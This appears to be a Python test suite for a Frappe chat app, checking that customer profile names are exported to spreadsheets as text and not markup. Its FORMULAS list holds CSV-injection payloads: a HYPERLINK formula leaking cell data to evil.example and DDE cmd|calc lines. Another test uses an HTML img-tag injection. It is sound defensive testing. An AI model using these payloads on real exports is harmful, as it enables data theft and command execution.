"""A customer's profile name is never run by a spreadsheet as a formula, or rendered by a page as markup."""

import csv
import io

import frappe
from frappe.utils.xlsxutils import make_xlsx
from openpyxl import load_workbook

from wa_window.frappe_host.store.raw_rows import coerce
from wa_window.patches.v1_1 import keep_names_as_text
from wa_window.tests.site_case import MANAGER, Panel, SiteCase

FORMULAS = (
	'=HYPERLINK("http://evil.example/?"&A1,"Budi")',
	"=cmd|'/C calc'!A0",
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"＝1+1",
)
NUMBERS = ("+62 812-3456-7890", "-5", "+62(812)34.56", "62812")
SHOWN = ("profile_name", "last_message_preview", "lead_title")


class TestFormulas(SiteCase):
	def chat_of(self, name: str):
		phone = self.phone()
		self.written_by(phone, ProfileName=name, Body=name)
		self.post_process_all()
		return self.conversation_of(phone)

	def row(self, name: str):
		frappe.db.rollback()
		return frappe.db.get_value("Chat Conversation", name, ["lead", *SHOWN], as_dict=True)

	def test_no_export_of_chats_or_leads_holds_a_formula(self):
		for formula in FORMULAS:
			row = self.row(self.chat_of(formula).name)
			lead = frappe.get_doc("Chat Lead", row.lead)
			cells = [*(row[field] for field in SHOWN), lead.lead_name]
			sheet = load_workbook(io.BytesIO(make_xlsx([cells], "chats").getvalue())).active
			for cell in sheet[1]:
				self.assertNotEqual(cell.data_type, "f", (formula, cell.value))
			for text in cells:
				self.assertNotIn(text[0], "=+-@\t\r＝＋－＠", (formula, text))

	def test_the_text_of_the_message_stays_byte_for_byte(self):
		chat = self.chat_of(FORMULAS[0])
		(message,) = self.messages(chat.name)
		self.assertEqual(message.body, FORMULAS[0])

	def test_numbers_and_ordinary_names_stay_as_they_are(self):
		for text in (*NUMBERS, "Budi", "Siti – Depok", "😀 =", ""):
			self.assertEqual(coerce("profile_name", text), text)
		row = self.row(self.chat_of(NUMBERS[0]).name)
		self.assertEqual((row.profile_name, row.last_message_preview), (NUMBERS[0], NUMBERS[0]))

	def test_frappes_own_export_has_none(self):
		chat = self.chat_of(FORMULAS[0])
		asked = {
			"doctype": "Chat Conversation",
			"file_format_type": "CSV",
			"fields": frappe.as_json([f"`tabChat Conversation`.`{field}`" for field in SHOWN]),
			"filters": frappe.as_json({"name": chat.name}),
			"title": "Chats",
		}
		frappe.set_user(MANAGER)
		frappe.local.form_dict = frappe._dict(asked)
		from frappe.desk.reportview import export_query

		export_query()
		frappe.set_user("Administrator")
		exported = frappe.response.pop("result", None) or frappe.response.pop("filecontent")
		text = exported if isinstance(exported, str) else exported.decode("utf-8-sig")
		cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
		self.assertTrue(any("HYPERLINK" in cell for cell in cells), text)
		self.assertFalse([cell for cell in cells if cell.startswith(("=", "+", "@"))])

	def test_a_title_is_written_in_one_way_whoever_links_the_chat(self):
		title = '<img src="https://evil.example/x.png">=1+1'
		phone = self.phone()
		chat = self.written_by(phone)
		lead = self.lead(None, lead_name=title)
		frappe.db.set_value("Chat Lead", lead.name, "lead_name", title, update_modified=False)
		frappe.db.commit()
		linked = {"lead_doctype": "Chat Lead", "lead": lead.name}
		answer = Panel(MANAGER).resource("PUT", f"Chat Conversation/{chat.name}", **linked)
		self.assertEqual(answer.status_code, 200, answer.text)
		by_form = self.row(chat.name).lead_title
		self.assertNotIn("<", by_form)
		lead.reload()
		lead.save()
		frappe.db.commit()
		self.assertEqual(self.row(chat.name).lead_title, by_form)

	def test_the_patch_mends_what_was_stored_before_and_nothing_else(self):
		old, plain = self.chat_of("Budi").name, self.chat_of("Siti").name
		stored = {"profile_name": "=1+1", "last_message_preview": "@x", "lead_title": "<b>=1</b>"}
		frappe.db.set_value("Chat Conversation", old, stored, update_modified=False)
		frappe.db.commit()
		untouched = frappe.get_doc("Chat Conversation", plain).as_dict()
		for _again in range(2):
			keep_names_as_text.execute()
			row = self.row(old)
			self.assertEqual([row[field] for field in SHOWN], ["\u00a0=1+1", "\u00a0@x", "‹b›=1‹/b›"])
		self.assertEqual(frappe.get_doc("Chat Conversation", plain).as_dict(), untouched)
